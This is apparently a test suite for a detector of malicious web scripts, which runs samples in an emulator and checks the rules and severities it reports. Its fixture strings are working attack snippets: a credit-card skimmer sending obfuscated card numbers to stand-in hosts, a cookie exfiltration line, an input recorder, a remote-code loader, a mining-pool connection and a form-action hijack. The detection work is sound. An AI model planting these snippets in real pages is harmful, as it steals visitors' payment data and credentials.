import assert from 'node:assert/strict';
import { featureNames } from '../../../analyzer/features.ts';
import { examineDeeply, type Examination } from '../../../analyzer/examine.ts';
import { createEmulator, type Emulator } from '../../../analyzer/emulator/index.ts';
import { traceRules } from '../../../analyzer/trace/index.ts';
import { evidence as evidenceSchema, severities } from '../../../core/schema/index.ts';

const hidden = (host: string): string => `atob('${Buffer.from(host).toString('base64')}')`;
const skimmer = `document.querySelector('form').addEventListener('submit',function(){new Image().src='https://'+${hidden('stats.bad.example')}+'/p.gif?d='+btoa(document.querySelector('#cc_number').value)});`;

describe('applyTrace', function () {
  this.timeout(60_000);
  let emulator: Emulator;
  before(() => {
    emulator = createEmulator({ workers: 1, timeoutMs: 30_000 });
  });
  after(() => emulator.close());

  const run = (text: string, path = 'a.js'): Promise<Examination> =>
    examineDeeply({ path, bytes: Buffer.from(text), level: 'full' }, (script) => emulator.emulate(script));

  it('says what was typed and where it went', async () => {
    const [script] = (await run(`var a = 1;\n${skimmer}`)).scripts;
    const found = script!.evidence.find(({ rule }) => rule === 'typed-data-sent');
    assert.match(
      found!.message,
      /card number was seen on its way to stats\.bad\.example, in an image address, base64/,
    );
    assert.deepEqual(
      [found!.severity, found!.host, found!.location.line],
      ['critical', 'stats.bad.example', 2],
    );
    assert.ok(script!.behaviour.hosts.includes('stats.bad.example'));
  });

  it('thinks less of a hidden host where everything is hidden', async () => {
    const loader = `var s = document.createElement('script'); s.src = ${hidden('https://x.bad.example/a.js')}; document.head.appendChild(s);`;
    const severityIn = async (text: string): Promise<string | undefined> =>
      (await run(text)).scripts[0]!.evidence.find(({ rule }) => rule === 'hidden-destination')?.severity;
    assert.equal(await severityIn(loader), 'high');
    assert.equal(
      await severityIn(`${loader} eval(${hidden('var all = "of it"; window.done = true;')});`),
      'medium',
    );
  });

  it('adds numbers of the run to the vector', async () => {
    const [script] = (await run(skimmer)).scripts;
    const number = (name: string): number => script!.features[featureNames.indexOf(`emulation@2/${name}`)]!;
    assert.equal(script!.features.length, featureNames.length);
    assert.equal(number('ran'), 1);
    assert.ok(number('payment-proven-by-canary') > 0);
    assert.ok(number('hidden-hosts') > 0);
    assert.ok(script!.features.every(Number.isFinite));
  });

  it('analyses code made at run time, and places what it finds where that was made', async () => {
    const inner = `fetch('https://x.example/', { method: 'POST', body: btoa(document.getElementById('cc-number').value) })`;
    const [script] = (await run(`var b = 2;\n\neval(${hidden(inner)});`)).scripts;
    const found = script!.evidence.find(({ rule }) => rule === 'card-field-to-host');
    assert.match(found!.message, /in code made at run time by eval/);
    assert.deepEqual(found!.location, { line: 3, column: 1 });
  });

  it('names the fields that the script names, decoded or not, and no others of the page', async () => {
    const asked = `var s = ['#cc_', 'number'].join(''); new Image().src = 'https://x.example/?' + document.querySelector(s).value;`;
    const [script] = (await run(asked)).scripts;
    assert.deepEqual(script!.behaviour.fields, ['#cc_number']);
  });

  it('says every input of a script that goes through all of them', async () => {
    const all = `var t = ''; var a = document.getElementsByTagName('input'); for (var i = 0; i < a.length; i++) t += a[i].value; new Image().src = 'https://x.example/?' + btoa(t);`;
    const [script] = (await run(all)).scripts;
    assert.ok(script!.behaviour.fields.includes('*'));
    assert.ok(
      !script!.behaviour.fields.some((name) => name.includes('cc_')),
      script!.behaviour.fields.join(),
    );
    const fields = script!.evidence.flatMap(({ field }) => field ?? []);
    assert.ok(!fields.some((name) => name.includes('cc_')), fields.join());
  });

  it('gives places in the page for scripts of a page', async () => {
    const page = `<!doctype html>\n<p>\n<script>\n${skimmer}</script>`;
    const { scripts } = await run(page, 'a.html');
    assert.ok(
      scripts[0]!.evidence.some(({ rule, location }) => rule === 'typed-data-sent' && location.line === 4),
    );
  });

  it('does not run what only computes', async () => {
    const { scripts } = await run('var total = 0; for (var i = 0; i < 9; i++) total += i * i;');
    assert.equal(scripts[0]!.timings.emulationMs, undefined);
    assert.equal(scripts[0]!.features[featureNames.indexOf('emulation@2/ran')], 0);
  });

  it('gives the same result twice', async () => {
    const plain = ({ scripts }: Examination): unknown =>
      scripts.map((script) => ({ ...script, timings: null }));
    assert.deepEqual(plain(await run(skimmer)), plain(await run(skimmer)));
  });

  it('keeps to the published shape and to declared severities', async () => {
    const texts = [
      skimmer,
      `document.write('<ifr'+'ame src="http://'+${hidden('x.bad.example')}+'/" width=0 height=0></iframe>')`,
      `var s = document.createElement('script'); s.src = ${hidden('https://cdn.bad.example/x.js')}; document.head.appendChild(s)`,
      `var s = new WebSocket('wss://pool.example/'); s.onopen = function () { s.send('{"method":"login","params":{}}') }`,
      `if (/google/.test(document.referrer)) location.href = ${hidden('https://spam.bad.example/')}`,
      `new Image().src = 'https://x.bad.example/?' + document.cookie`,
      `var f = document.createElement('iframe'); f.style.cssText = 'position:fixed;width:100%;height:100%;z-index:99999'; f.src = 'https://x.bad.example/'; document.body.appendChild(f)`,
      `document.write('<style>.x{position:absolute;left:-9999px}</style>')`,
      `document.forms[0].action = 'https://x.bad.example/take'`,
      `document.querySelector('form').addEventListener('submit', function () { fetch('/media/a.png', { method: 'POST', body: document.querySelector('#cc_number').value }) })`,
      `var r = new XMLHttpRequest(); r.open('GET', 'https://x.bad.example/'); r.onload = function () { if (r.responseText.indexOf('mark') >= 0) eval(r.responseText) }; r.send()`,
      `var f = window.fetch; window.fetch = function () { new Image().src = 'https://x.example/'; return f.apply(this, arguments) }`,
    ];
    const seen = new Set<string>();
    for (const text of texts)
      for (const script of (await run(text)).scripts)
        for (const one of script.evidence) {
          evidenceSchema.parse(one);
          const rule = traceRules.find(({ name }) => name === one.rule);
          if (!rule) continue;
          seen.add(rule.name);
          const [least, most] = rule.severity.map((severity) => severities.indexOf(severity));
          const rank = severities.indexOf(one.severity);
          assert.ok(rank >= least! && rank <= most!, `${one.rule} gave ${one.severity}`);
        }
    assert.deepEqual([...seen].sort(), [
      'chosen-visitors',
      'cookies-sent',
      'form-redirected',
      'hidden-content-written',
      'hidden-destination',
      'hidden-frame-inserted',
      'hidden-frame-written',
      'mining-pool',
      'page-covered',
      'payment-to-odd-path',
      'remote-code',
      'requests-intercepted',
      'typed-data-sent',
      'visitor-sent-away',
    ]);
  });

  const recorder = (value: string): string =>
    `var q=[];document.addEventListener('change',function(e){var t=e.target;q.push({n:t.name,v:${value}});navigator.sendBeacon('https://rec.example/v1',JSON.stringify(q))},true);`;
  const harvest = async (text: string): Promise<string[]> =>
    (await run(text)).scripts[0]!.evidence.filter(({ rule }) => /harvest|typed/.test(rule)).map(
      ({ severity, rule }) => `${severity} ${rule}`,
    );

  it('thinks less of a record of all inputs that leaves out what card fields hold', async () => {
    const masked = `/pass|card|cc|cvv|cvc/.test(t.name+t.autocomplete)?t.value.replace(/./g,'*'):t.value`;
    assert.deepEqual(await harvest(recorder(masked)), ['low form-harvest-to-host', 'low typed-data-sent']);
  });

  it('thinks no less of one that leaves them in, in whatever form', async () => {
    assert.ok((await harvest(recorder('t.value'))).includes('critical typed-data-sent'));
    const veiled = `/card|cc|cvv|cvc/.test(t.name+t.autocomplete)?[].reduce.call(t.value,function(a,c){return (a*31+c.charCodeAt(0)*7919)%1000000007},7):t.value`;
    const found = await harvest(recorder(veiled));
    assert.ok(
      found.includes('critical typed-data-sent') && found.includes('medium form-harvest-to-host'),
      found.join(),
    );
  });

  it('calls no address decoded that stands in code which was packed whole', async () => {
    const inner = `function ask(){return fetch('https://api.quiet.example/list').then(function(r){return r.json()})}ask().then(function(j){document.title=j.name;document.body.className='ready';window.listOf=j.items||[];});window.version='1.2.3-packed';`;
    const rules = async (text: string): Promise<string[]> =>
      (await run(text)).scripts[0]!.evidence.map(({ rule }) => rule);
    assert.ok(!(await rules(`eval(${hidden(inner)})`)).includes('script-from-decoded-url'));
    assert.ok(
      (await rules(`fetch(${hidden('https://api.quiet.example/list')})`)).includes('script-from-decoded-url'),
    );
  });
});
